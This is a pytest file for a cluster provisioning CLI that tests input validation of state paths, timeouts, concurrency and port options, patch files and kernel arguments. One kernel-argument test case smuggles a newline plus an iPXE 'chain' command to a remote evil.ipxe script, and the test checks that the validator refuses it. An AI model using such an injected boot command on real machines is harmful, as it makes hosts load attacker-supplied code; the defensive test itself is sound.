"""Bad input is refused before anything runs: located message, exit 2, no traceback.

And the state directory is where the inventory says, whichever directory the tool runs
from: a run from elsewhere must never start a second site (new CA, every node "blank").
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from provisioner.cli import main

REPO = Path(__file__).resolve().parents[2]
LAB = REPO / "inventory" / "examples" / "lab.yaml"


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def _lab(tmp_path: Path, edit=None, name: str = "site.yaml") -> Path:
    data = yaml.safe_load(LAB.read_text())
    if edit is not None:
        edit(data)
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


# --- the state directory is anchored to the inventory ------------------------------------


def test_plan_from_root_and_from_the_repository_gives_the_same_state_dir(capsys, monkeypatch) -> None:
    monkeypatch.chdir("/")
    code, out, _ = _run(capsys, "-i", str(LAB), "-o", "json", "plan")
    assert code == 0
    from_root = json.loads(out)["state_dir"]
    monkeypatch.chdir(REPO)
    code, out, _ = _run(capsys, "-i", "inventory/examples/lab.yaml", "-o", "json", "plan")
    assert code == 0
    from_repo = json.loads(out)["state_dir"]
    assert from_root == from_repo == str(REPO / "state" / "lab")  # lab.yaml: state_dir ../../state/lab


def test_the_command_from_root_and_from_the_repository_agree() -> None:
    """The real command in two processes with two working directories (no in-process chdir)."""

    def state_dir(cwd: Path, inventory: str) -> str:
        argv = [str(Path(sys.executable).parent / "provisioner"), "-i", inventory, "-o", "json", "plan"]
        proc = subprocess.run(argv, cwd=cwd, capture_output=True, text=True, timeout=120)
        assert proc.returncode == 0, proc.stderr
        return str(json.loads(proc.stdout)["state_dir"])

    from_root = state_dir(Path("/"), str(LAB))
    from_repo = state_dir(REPO, "inventory/examples/lab.yaml")
    assert from_root == from_repo == str(REPO / "state" / "lab")


def test_a_relative_state_dir_is_relative_to_the_inventory(capsys, monkeypatch, tmp_path: Path) -> None:
    (tmp_path / "nested").mkdir()
    inv = _lab(tmp_path, lambda d: d["cluster"].update(state_dir="run/here"), "nested/site.yaml")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    code, out, _ = _run(capsys, "-i", str(inv), "-o", "json", "plan")
    assert code == 0 and json.loads(out)["state_dir"] == str(tmp_path / "nested" / "run" / "here")
    # the text output says it too, and so does validate
    code, out, _ = _run(capsys, "-i", str(inv), "plan")
    assert f"state directory: {tmp_path / 'nested' / 'run' / 'here'}" in out
    code, out, _ = _run(capsys, "-i", str(inv), "-o", "json", "validate")
    assert json.loads(out)["state_dir"] == str(tmp_path / "nested" / "run" / "here")


def test_an_absolute_state_dir_is_kept(capsys, tmp_path: Path) -> None:
    inv = _lab(tmp_path, lambda d: d["cluster"].update(state_dir=str(tmp_path / "abs")))
    code, out, _ = _run(capsys, "-i", str(inv), "-o", "json", "plan")
    assert code == 0 and json.loads(out)["state_dir"] == str(tmp_path / "abs")


# --- kernel arguments ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arg", "says"),
    [
        ("console=ttyS0\nchain http://10.0.0.9/evil.ipxe", "contains a newline"),
        ("quiet\r", "contains a carriage return"),
        ("a=b c", "contains a space"),
        ("x=\ty", "contains a tab"),
        ("x=\x1b[0m", "U+001B"),
        ("x=\u2028y", "U+2028"),
        ("", "empty kernel argument"),
    ],
)
def test_kernel_args_with_whitespace_or_control_characters_are_refused(
    capsys, tmp_path: Path, arg: str, says: str
) -> None:
    def edit(d):
        d["cluster"]["talos"]["extra_kernel_args"] = ["console=ttyS0", arg]

    inv = _lab(tmp_path, edit)
    code, _, err = _run(capsys, "-i", str(inv), "validate")
    assert code == 2
    assert "cluster.talos.extra_kernel_args[1]" in err and says in err
    assert "site.yaml:" in err and "Traceback" not in err


def test_ordinary_kernel_args_pass(capsys, tmp_path: Path) -> None:
    def edit(d):
        d["cluster"]["talos"]["extra_kernel_args"] = ["console=ttyS0,115200n8", "talos.platform=metal", "-"]

    code, _, err = _run(capsys, "-i", str(_lab(tmp_path, edit)), "validate")
    assert code == 0, err


# --- timeouts -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "says"),
    [
        ("1e400", "finite number"),
        (".inf", "finite number"),
        (".nan", "finite number"),
        ("-5", "greater than 0"),
        ("0", "greater than 0"),
        ("604801", "7-day limit"),
    ],
)
def test_timeouts_must_be_finite_positive_and_bounded(capsys, tmp_path: Path, value: str, says: str) -> None:
    text = LAB.read_text().replace("    boot: 600\n", f"    boot: {value}\n", 1)
    assert f"boot: {value}" in text
    inv = tmp_path / "site.yaml"
    inv.write_text(text)
    code, _, err = _run(capsys, "-i", str(inv), "validate")
    assert code == 2, err
    assert "cluster.timeouts.boot" in err and says in err and "Traceback" not in err
    line = text.splitlines().index(f"    boot: {value}") + 1
    assert f"site.yaml:{line}:" in err


def test_a_week_is_still_accepted(capsys, tmp_path: Path) -> None:
    inv = tmp_path / "site.yaml"
    inv.write_text(LAB.read_text().replace("    boot: 600\n", "    boot: 604800\n", 1))
    assert _run(capsys, "-i", str(inv), "validate")[0] == 0


# --- concurrency options ------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["up", "--bmc-concurrency", "0"],
        ["up", "--per-rack", "0"],
        ["up", "--bmc-concurrency", "-3"],
        ["power", "status", "--concurrency", "0"],
        ["power", "status", "--per-rack", "0"],
    ],
)
def test_concurrency_zero_is_a_usage_error(capsys, tmp_path: Path, argv: list[str]) -> None:
    inv = _lab(tmp_path, lambda d: d["cluster"].update(state_dir=str(tmp_path / "state")))
    code, _, err = _run(capsys, "-i", str(inv), *argv)
    assert code == 2
    assert argv[-2] in err and "1<=x" in err
    assert not (tmp_path / "state").exists()  # refused before anything ran


# --- patch files --------------------------------------------------------------------------


def _with_patch(tmp_path: Path, content: bytes | None) -> Path:
    patch = tmp_path / "patch.yaml"
    if content is not None:
        patch.write_bytes(content)
    else:
        patch.mkdir()  # a directory: unreadable as a file

    def edit(d):
        d["cluster"]["talos"]["config_patches"] = ["patch.yaml"]
        d["cluster"]["state_dir"] = str(tmp_path / "state")

    return _lab(tmp_path, edit)


@pytest.mark.parametrize("command", [["validate"], ["configs", "generate"], ["up"]])
@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"machine:\n  install:\n    disk: /dev/\xe9\xff\n", "is not UTF-8 text (byte 0xe9 at offset 35)"),
        (None, "is a directory"),
        (b"", None),  # replaced by a missing file below
    ],
)
def test_a_bad_patch_file_is_exit_2_naming_the_file_and_the_line(
    capsys, tmp_path: Path, command: list[str], content, says: str | None
) -> None:
    inv = _with_patch(tmp_path, content)
    if says is None:
        (tmp_path / "patch.yaml").unlink()
        says = "does not exist"
    code, _, err = _run(capsys, "-i", str(inv), *command)
    assert code == 2, err
    line = inv.read_text().splitlines().index("    - patch.yaml") + 1
    assert f"site.yaml:{line}: cluster.talos.config_patches[0]: patch file {tmp_path / 'patch.yaml'}" in err
    assert says in err and "Traceback" not in err and "internal error" not in err
    assert not (tmp_path / "state").exists()  # refused before anything was written


def test_a_patch_that_turns_bad_after_validation_is_still_exit_2(capsys, tmp_path: Path) -> None:
    """The configs stage keeps its own check: the file may change between two commands."""
    from provisioner.errors import InputError
    from provisioner.inventory import load_inventory
    from provisioner.talos.configs import generate_configs

    inv = _with_patch(tmp_path, b"machine: {}\n")
    site = load_inventory(inv).site
    (tmp_path / "patch.yaml").write_bytes(b"machine:\n  x: \xff\n")
    with pytest.raises(InputError) as err:
        generate_configs(site)
    assert err.value.exit_code == 2
    assert "cluster.talos.config_patches[0]" in str(err.value) and "is not UTF-8 text" in str(err.value)


# --- duration and port options ------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "option", "says"),
    [
        (["lab", "kube", "up", "--delay", "nan"], "--delay", "not a finite number"),
        (["lab", "kube", "up", "--delay", "-1"], "--delay", ">= 0"),
        (["netboot", "push", "--rack", "lab", "--connect-timeout", "1e400"], "--connect-timeout", "finite"),
        (["netboot", "push", "--rack", "lab", "--connect-timeout", "0"], "--connect-timeout", "> 0"),
        (["netboot", "push", "--rack", "lab", "--http-port", "0"], "--http-port", "1<=x<=65535"),
        (["platform", "install", "--timeout", "inf"], "--timeout", "not a finite number"),
        (["platform", "install", "--timeout", "700000"], "--timeout", "7-day limit"),
    ],
)
def test_duration_and_port_options_are_bounded(
    capsys, tmp_path: Path, argv: list[str], option: str, says: str
) -> None:
    inv = _lab(tmp_path, lambda d: d["cluster"].update(state_dir=str(tmp_path / "state")))
    code, _, err = _run(capsys, "-i", str(inv), *argv)
    assert code == 2, err
    assert option in err and says in err and "Traceback" not in err
    assert not (tmp_path / "state").exists()


def test_the_seconds_type_accepts_ordinary_durations() -> None:
    from provisioner.cli.params import SECONDS, SECONDS_OR_ZERO

    assert SECONDS.convert("15", None, None) == 15.0
    assert SECONDS.convert(2.5, None, None) == 2.5
    assert SECONDS_OR_ZERO.convert("0", None, None) == 0.0
    assert SECONDS.convert("604800", None, None) == 604800.0
